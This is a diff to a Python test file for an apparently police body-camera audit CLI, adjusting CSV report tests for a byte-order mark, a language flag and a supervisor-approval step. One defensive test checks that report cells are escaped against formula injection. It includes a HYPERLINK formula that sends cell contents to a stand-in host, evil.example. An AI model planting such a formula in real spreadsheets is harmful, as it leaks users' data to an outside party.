@@ -59,6 +59,12 @@ def write(tmp_path: Path, name: str, text: str, encoding: str = "utf-8") -> Path
     return p
 
 
+def unbom(text: str) -> str:
+    """CSV reports start with a byte-order mark (Excel's sign of UTF-8)."""
+    assert text.startswith("\ufeff"), text[:20]
+    return text[1:]
+
+
 def station(home: Path) -> Station:
     return Station.open(home, actor="test", passphrase=None)
 
@@ -192,9 +198,9 @@ def test_a_bad_row_refuses_the_whole_file(bwc, home: Path, tmp_path: Path) -> No
 
 def test_report_formats(bwc, home: Path, tmp_path: Path) -> None:
     city(bwc, home, tmp_path)
-    r = bwc("audit", "report", "--month", "2026-10", "--format", "csv")
+    r = bwc("audit", "report", "--month", "2026-10", "--format", "csv", "--lang", "en")
     assert r.code == 0, r.err
-    rows = {row["officer_id"]: row for row in csv.DictReader(io.StringIO(r.out))}
+    rows = {row["officer_id"]: row for row in csv.DictReader(io.StringIO(unbom(r.out)))}
     a, b, c = rows["110023"], rows["110024"], rows["110025"]
     # C1 fully by 110023 (3 s gap bridged, started 30 s early); C3 at the month's first
     # instant, recorded from September; C0 belongs to September
@@ -222,12 +228,25 @@ def test_report_formats(bwc, home: Path, tmp_path: Path) -> None:
     assert data["undated_items"] == 1
     assert data["summary"]["frontline"] == 2 and data["summary"]["equipped"] == 2
 
-    r = bwc("audit", "report", "--month", "2026-10", "--by", "county", "--format", "csv")
-    counties = {row["county"]: row for row in csv.DictReader(io.StringIO(r.out))}
+    r = bwc(
+        "audit", "report", "--month", "2026-10", "--by", "county", "--format", "csv", "--lang", "en"
+    )
+    counties = {row["county"]: row for row in csv.DictReader(io.StringIO(unbom(r.out)))}
     assert counties["东城区"]["cases"] == "3" and counties["西城区"]["cases"] == "1"
 
-    r = bwc("audit", "report", "--month", "2026-10", "--unit", "城西中队", "--format", "csv")
-    assert [row["officer_id"] for row in csv.DictReader(io.StringIO(r.out))] == ["110025"]
+    r = bwc(
+        "audit",
+        "report",
+        "--month",
+        "2026-10",
+        "--unit",
+        "城西中队",
+        "--format",
+        "csv",
+        "--lang",
+        "en",
+    )
+    assert [row["officer_id"] for row in csv.DictReader(io.StringIO(unbom(r.out)))] == ["110025"]
 
     r = bwc("audit", "report", "--month", "2026-10")
     assert r.code == 0, r.err
@@ -235,10 +254,12 @@ def test_report_formats(bwc, home: Path, tmp_path: Path) -> None:
     assert r.out.index("110025") < r.out.index("110023")  # worst first
 
     out = tmp_path / "r.csv"
-    r = bwc("audit", "report", "--month", "2026-10", "--format", "csv", "--out", out)
-    assert r.code == 0 and out.read_text(encoding="utf-8").startswith("officer_id,")
+    r = bwc(
+        "audit", "report", "--month", "2026-10", "--format", "csv", "--lang", "en", "--out", out
+    )
+    assert r.code == 0 and out.read_text(encoding="utf-8").startswith("\ufeffofficer_id,")
 
-    r = bwc("audit", "report", "--month", "2026-11", "--format", "csv")
+    r = bwc("audit", "report", "--month", "2026-11", "--format", "csv", "--lang", "en")
     assert r.code == 0 and len(r.out.splitlines()) == 4  # the roster, nothing to audit
 
     r = bwc("audit", "report", "--month", "2026-10", "--max-gap", "2", "--format", "json")
@@ -262,8 +283,10 @@ def test_officers_not_in_roster_are_a_warning_not_a_unit(bwc, home: Path, tmp_pa
     assert "(not in roster)" in row
     assert "not in the roster, so in no unit or county" in r.err and "999 (1 case)" in r.err
     for by in ("unit", "county"):
-        r = bwc("audit", "report", "--month", "2026-10", "--by", by, "--format", "csv")
-        keys = [row[by] for row in csv.DictReader(io.StringIO(r.out))]
+        r = bwc(
+            "audit", "report", "--month", "2026-10", "--by", by, "--format", "csv", "--lang", "en"
+        )
+        keys = [row[by] for row in csv.DictReader(io.StringIO(unbom(r.out)))]
         assert keys == (["城东中队", "城西中队"] if by == "unit" else ["东城区", "西城区"])
         r = bwc("audit", "report", "--month", "2026-10", "--by", by)
         assert "(not in roster)" not in r.out and "999" in r.err
@@ -330,8 +353,15 @@ def test_explain_and_case(bwc, home: Path, tmp_path: Path) -> None:
     with station(home).session() as s:
         e = s.exec(select(Explanation)).one()
         assert (e.actor, e.station_id, e.officer_id) == ("test-clerk", "st-test", "110024")
-    r = bwc("audit", "report", "--month", "2026-10", "--format", "csv")
-    rows = {row["officer_id"]: row for row in csv.DictReader(io.StringIO(r.out))}
+    # submitted, not yet approved: it does not count (issue 15.13)
+    assert "awaiting a supervisor's review" in r.out
+    r = bwc("audit", "report", "--month", "2026-10", "--format", "csv", "--lang", "en")
+    rows = {row["officer_id"]: row for row in csv.DictReader(io.StringIO(unbom(r.out)))}
+    assert (rows["110024"]["partial"], rows["110024"]["explained"]) == ("1", "0")
+    r = bwc("audit", "approve", "C1", "110024", "--by", "王队长")
+    assert r.code == 0, r.err
+    r = bwc("audit", "report", "--month", "2026-10", "--format", "csv", "--lang", "en")
+    rows = {row["officer_id"]: row for row in csv.DictReader(io.StringIO(unbom(r.out)))}
     assert (rows["110024"]["partial"], rows["110024"]["explained"]) == ("1", "1")
 
     r = bwc("audit", "explain", "C9", "110024", "--reason", "x")
@@ -393,15 +423,17 @@ def test_csv_report_cells_never_run_as_formulas(bwc, home: Path, tmp_path: Path)
         r = bwc("audit", "import", kind, write(tmp_path, f"{kind}.csv", text))
         assert r.code == 0, r.err
     for by in ("officer", "unit", "county"):
-        r = bwc("audit", "report", "--month", "2026-10", "--format", "csv", "--by", by)
+        r = bwc(
+            "audit", "report", "--month", "2026-10", "--format", "csv", "--lang", "en", "--by", by
+        )
         assert r.code == 0, r.err
-        rows = list(csv.reader(io.StringIO(r.out)))
+        rows = list(csv.reader(io.StringIO(unbom(r.out))))
         for row in rows:
             for cell in row:
                 assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (by, cell)
         assert len(rows) == 2
-    r = bwc("audit", "report", "--month", "2026-10", "--format", "csv")
-    row = next(csv.DictReader(io.StringIO(r.out)))
+    r = bwc("audit", "report", "--month", "2026-10", "--format", "csv", "--lang", "en")
+    row = next(csv.DictReader(io.StringIO(unbom(r.out))))
     assert row["officer_id"] == "'@9"
     assert row["name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"open")'
     assert (row["unit"], row["county"]) == ("'=UNIT()", "'-3+2")
